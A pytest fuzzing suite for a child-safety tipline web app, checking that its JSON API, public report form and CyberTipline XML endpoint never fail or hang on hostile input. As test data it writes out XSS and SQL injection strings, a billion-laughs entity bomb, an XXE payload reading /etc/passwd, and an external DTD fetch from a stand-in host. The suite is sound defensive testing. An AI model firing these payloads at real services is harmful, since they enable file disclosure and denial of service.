"""Hostile input against the real app, in-process, on SQLite and PostgreSQL: never a 5xx, never a hang.

- the JSON API and the CyberTipline API, fuzzed by schemathesis from the app's own OpenAPI schema
  (valid and invalid data, with credentials that reach the handlers); responses must also conform to
  the schema where it documents them;
- the public form and follow-up, fuzzed by hypothesis with NUL bytes, control characters, lone
  surrogates, odd Unicode and huge values;
- the CyberTipline XML door over HTTP with the classic attacks (the parser itself is fuzzed in
  tests/test_cybertip_parse.py): entity expansion, external entities, deep nesting, huge attributes,
  invalid UTF-8, chunked bodies without a length.
"""

from __future__ import annotations

import time
from typing import Any

import pytest
import schemathesis
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from hypothesis.errors import Unsatisfiable
from schemathesis import GenerationMode
from schemathesis.checks import content_type_conformance, not_a_server_error, response_schema_conformance
from sqlalchemy import select

from helpers import (
    ADMIN,
    CYBERTIP,
    PASSWORD,
    PLATFORM,
    PUBLIC,
    ROUTES,
    STAFF_OR_PLATFORM,
    bearer,
    css,
    full_token,
    page,
    report_xml,
)
from tipline.accounts import service as accounts
from tipline.store.models import Report
from tipline.web.app import create_app

EXAMPLES_PER_OPERATION = 8  # x 2 modes x ~60 operations: about 30 s per backend
FAST = settings(
    max_examples=EXAMPLES_PER_OPERATION,
    deadline=None,
    database=None,
    suppress_health_check=list(HealthCheck),
)


@pytest.fixture
def app(settings, db):  # type: ignore[no-untyped-def]
    settings.rate_limits = False  # the fuzzers send thousands of requests from one client
    settings.argon2_per_second = 0  # and the process-wide Argon2 budget would answer them 503 (tested elsewhere)
    return create_app(settings, db=db)


# ------------------------------------------------------------------------------------------ JSON API


class Credentials:
    def __init__(self, db) -> None:  # type: ignore[no-untyped-def]
        self.platform = accounts.create_platform(db, "FuzzChat")
        accounts.create_user(db, "root", ADMIN, PASSWORD)
        self.token = full_token(db, "root")

    def for_route(self, route: str) -> dict[str, Any]:
        cls = ROUTES.get(route, PUBLIC)
        if cls in (PLATFORM,):
            return {"headers": bearer(self.platform.api_key)}
        if cls == CYBERTIP:
            return {"auth": (self.platform.username, self.platform.password)}
        if cls == STAFF_OR_PLATFORM or cls != PUBLIC:
            return {"headers": bearer(self.token)}
        return {}


def _fuzzer(strategy: Any, route: str, kwargs: dict[str, Any]) -> Any:
    @FAST
    @given(case=strategy)
    def fuzz(case: Any) -> None:
        t0 = time.monotonic()
        response = case.call(**kwargs)
        assert time.monotonic() - t0 < 10, f"{route} took {time.monotonic() - t0:.1f} s"
        checks = [not_a_server_error, response_schema_conformance, content_type_conformance]
        if route.split(" ", 1)[1].startswith("/ispws/"):
            # the CyberTipline routes answer XML but declare no response content type yet: only the 5xx check
            checks = [not_a_server_error]
        case.validate_response(response, checks=checks)

    return fuzz


# 5xx found by this fuzzer in modules of other capabilities, reported with their reproduction; a failure
# of that route whose message holds the fragment is not counted. Remove an entry once it is fixed.
KNOWN_BUGS: dict[str, str] = {
    # route -> a fragment of the error message of a known, not yet fixed 500 (none at the moment)
}


@pytest.mark.slow
def test_api_never_fails_on_generated_input(app, db, client):
    creds = Credentials(db)
    # a few rows for the fuzzer's ids to find
    for i in range(3):
        client.post(
            "/api/v1/reports",
            headers=bearer(creds.platform.api_key),
            json={"report_id": f"seed-{i}", "category": "other", "text": f"seed {i} +39 333 123 456{i}"},
        )
    schema = schemathesis.openapi.from_asgi("/api/v1/openapi.json", app)
    failures: list[str] = []
    operations = 0
    started = time.monotonic()
    for result in schema.get_all_operations():
        op = result.ok()
        route = f"{op.method.upper()} {op.path}"
        kwargs = creds.for_route(route)
        for mode in (GenerationMode.POSITIVE, GenerationMode.NEGATIVE):
            operations += 1
            try:
                _fuzzer(op.as_strategy(generation_mode=mode), route, kwargs)()
            except Unsatisfiable:
                continue  # no invalid input exists for an operation without parameters
            except (Exception, BaseExceptionGroup) as e:  # noqa: BLE001 - gather every operation's failure
                if KNOWN_BUGS.get(route, "\0") not in str(e):
                    failures.append(f"{route} ({mode.value}): {str(e)[:1500]}")
    assert operations > 40, "the schema lost its operations?"
    assert not failures, "\n\n".join(failures)
    assert time.monotonic() - started < 240


# ------------------------------------------------------------------------------------------ public form

odd_text = st.one_of(
    st.text(max_size=300),
    st.text(alphabet=st.characters(codec="utf-8"), max_size=200),
    st.sampled_from(
        [
            "\x00",
            "a\x00b",
            "\x00" * 500,
            "\ud800",
            "x\udfffy",
            "\u202e\u200b\ufeff",
            "𝕏" * 100,
            "\r\n" * 50,
            "<script>alert(1)</script>",
            "' OR 1=1 --",
            "%00",
            "A" * 25_000,
            "０１２３",
            "\x1b[31m",
        ]
    ),
)
CATEGORIES = [
    "live_streamed_abuse",
    "child_sexual_abuse_material",
    "trafficking_advertisement",
    "sextortion",
    "online_enticement",
    "other",
    "",
    "nope",
]
FIELDS = [
    "text",
    "country",
    "victim_age",
    "contact_name",
    "contact_email",
    "contact_phone",
    "live_platform",
    "live_account",
    "live_happening_now",
    "live_seen_at",
    "live_url",
    "material_urls",
    "material_how_found",
    "ad_url",
    "ad_contact",
    "ad_city",
    "sextortion_account",
    "sextortion_money",
    "grooming_account",
    "grooming_meeting",
    "unknown_field",
]


FORM = {"Content-Type": "application/x-www-form-urlencoded"}


def form(**fields: str) -> str:
    """A urlencoded body as a hostile client sends it: lone surrogates go out as their raw (invalid
    UTF-8) bytes, which a browser would never send."""
    from urllib.parse import quote_from_bytes

    return "&".join(f"{k}={quote_from_bytes(v.encode('utf-8', 'surrogatepass'))}" for k, v in fields.items())


def json_bytes(value: Any) -> bytes:
    import json

    return json.dumps(value).encode()  # ASCII with \\uXXXX escapes: lone surrogates survive as escapes


FORM_FUZZ = settings(max_examples=40, deadline=None, database=None, suppress_health_check=list(HealthCheck))


def test_public_form_and_followup_never_fail(client, db):
    token = css(page(client.get("/report")), "input[name=csrf_token]")[0].get("value")

    @FORM_FUZZ
    @given(
        category=st.sampled_from(CATEGORIES),
        values=st.dictionaries(st.sampled_from(FIELDS), odd_text, max_size=8),
        lang=st.sampled_from(["", "?lang=it", "?lang=xx"]),
    )
    def fuzz_report(category: str, values: dict[str, str], lang: str) -> None:
        r = client.post("/report" + lang, content=form(csrf_token=token, category=category, **values), headers=FORM)
        assert r.status_code in (200, 413, 422), (r.status_code, r.text[-500:])
        if r.status_code == 200:  # after the redirect to the page that shows the receipt
            assert css(page(r), "#receipt")

    @FORM_FUZZ
    @given(receipt=odd_text, body=odd_text)
    def fuzz_followup(receipt: str, body: str) -> None:
        r = client.post("/followup", content=form(csrf_token=token, receipt=receipt), headers=FORM)
        assert r.status_code in (200, 404, 413), r.status_code
        r = client.post("/followup/message", content=form(csrf_token=token, receipt=receipt, body=body), headers=FORM)
        assert r.status_code in (200, 404, 413, 422), r.status_code

    fuzz_report()
    fuzz_followup()
    # whatever got stored has no control character left
    with db.reader() as s:
        for text in s.scalars(select(Report.text)):
            assert "\x00" not in text


def test_nul_bytes_and_surrogates_in_every_door_are_cleaned_not_a_500(client, db):
    platform = accounts.create_platform(db, "P")
    nul = "evil\x00name\x01\ud800"
    r = client.post(
        "/api/v1/reports",
        headers={**bearer(platform.api_key), "Content-Type": "application/json"},
        content=json_bytes(
            {
                "report_id": "N\x00-1",
                "category": "other",
                "text": nul,
                "urls": ["https://example.org/\x00"],
                "reported_persons": [
                    {"name": nul, "identifiers": [{"kind": "account", "value": nul, "platform": nul}]}
                ],
                "files": [{"filename": nul, "md5": "0" * 32, "details": {nul: nul}}],
            }
        ),
    )
    assert r.status_code == 201, r.text
    got = client.get(f"/api/v1/platform/reports/{r.json()['id']}", headers=bearer(platform.api_key)).json()
    assert got["text"] == "evilname" and got["external_id"] == "N-1"
    r = client.post(
        "/api/v1/live",
        headers=bearer(platform.api_key),
        json={"stream_id": "s\x00", "broadcaster": {"account": "b\x00"}, "note": "n\x00"},
    )
    assert r.status_code == 201, r.text
    r = client.post(
        "/api/v1/reports", headers=bearer(platform.api_key), json={"report_id": "\x00", "category": "other"}
    )
    assert r.status_code == 422
    # CyberTipline: a NUL can only come in fields outside the XML (XML 1.0 cannot carry it)
    auth = (platform.username, platform.password)
    r = client.post("/ispws/submit", auth=auth, content=report_xml())
    assert r.status_code == 200
    import re

    rid = re.search(r"<reportId>(\d+)</reportId>", r.text).group(1)  # type: ignore[union-attr]
    r = client.post(
        "/ispws/upload", auth=auth, data={"id": rid}, files={"file": ("a\x00b.jpg", b"\xff\xd8\xff" + b"1" * 64)}
    )
    assert r.status_code < 500, r.text
    r = client.post("/ispws/finish", auth=auth, data={"id": rid + "\x00"})
    assert r.status_code < 500, r.text


# ------------------------------------------------------------------------------------------ CyberTipline over HTTP

LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE report [\n <!ENTITY a "aaaaaaaaaa">\n'
    + b"".join(
        f' <!ENTITY a{i} "{("&a" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'.encode() for i in range(1, 10)
    )
    + b"]>\n<report><incidentSummary><incidentType>Child Pornography (possession, manufacture, and distribution)"
    b"</incidentType><incidentDateTime>2024-01-01T00:00:00Z</incidentDateTime></incidentSummary>"
    b"<reporter><reportingPerson><firstName>&a9;</firstName></reportingPerson></reporter></report>"
)
XXE = (
    b'<?xml version="1.0"?>\n<!DOCTYPE report [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
    b"<report><reporter><reportingPerson><firstName>&x;</firstName></reportingPerson></reporter></report>"
)
PARAMETER_ENTITY = (
    b'<?xml version="1.0"?>\n<!DOCTYPE report [<!ENTITY % p SYSTEM "http://192.0.2.1/evil.dtd"> %p;]>\n<report/>'
)
DEEP = b'<?xml version="1.0"?>' + b"<report>" + b"<a>" * 100_000 + b"</a>" * 100_000 + b"</report>"
HUGE_ATTRIBUTE = b'<?xml version="1.0"?><report x="' + b"A" * 1_900_000 + b'"/>'
BAD_UTF8 = report_xml().replace(b"</report>", b"<additionalInfo>\xff\xfe\xc3(</additionalInfo></report>")


@pytest.mark.parametrize(
    "name, body",
    [
        ("billion laughs", LAUGHS),
        ("external entity", XXE),
        ("external parameter entity", PARAMETER_ENTITY),
        ("deep nesting", DEEP),
        ("huge attribute", HUGE_ATTRIBUTE),
        ("invalid UTF-8", BAD_UTF8),
        ("NUL in XML", report_xml().replace(b"</report>", b"<additionalInfo>a\x00b</additionalInfo></report>")),
        ("char ref NUL", report_xml().replace(b"</report>", b"<additionalInfo>&#0;</additionalInfo></report>")),
        ("empty", b""),
    ],
)
def test_hostile_xml_over_http_is_refused_quickly(client, db, name, body):
    platform = accounts.create_platform(db, "X")
    t0 = time.monotonic()
    r = client.post("/ispws/submit", auth=(platform.username, platform.password), content=body)
    elapsed = time.monotonic() - t0
    assert 400 <= r.status_code < 500, (name, r.status_code, r.text[:300])
    assert r.headers["content-type"].startswith("application/xml")
    assert "root:" not in r.text and elapsed < 5, (name, elapsed)
    with db.reader() as s:
        assert s.scalar(select(Report.id)) is None


def test_chunked_xml_without_a_length_is_cut_at_the_limit(client, db):
    platform = accounts.create_platform(db, "X")

    def endless() -> Any:
        yield b'<?xml version="1.0"?><report><additionalInfo>'
        for _ in range(400):  # 400 x 64 KiB = 25 MiB, well past every limit
            yield b"A" * 65_536

    r = client.post("/ispws/submit", auth=(platform.username, platform.password), content=endless())
    assert r.status_code == 413 and r.headers["content-type"].startswith("application/xml")


@FAST
@given(st.binary(max_size=2048))
def test_random_bytes_to_every_cybertip_route(random_client_and_auth, data):  # type: ignore[no-untyped-def]
    client, auth = random_client_and_auth
    for path in ("/ispws/submit", "/ispws/fileinfo", "/ispws/finish", "/ispws/retract"):
        r = client.post(path, auth=auth, content=data)
        assert r.status_code < 500, (path, r.status_code, r.text[:300])


@pytest.fixture
def random_client_and_auth(client, db):  # type: ignore[no-untyped-def]
    platform = accounts.create_platform(db, "R")
    return client, (platform.username, platform.password)
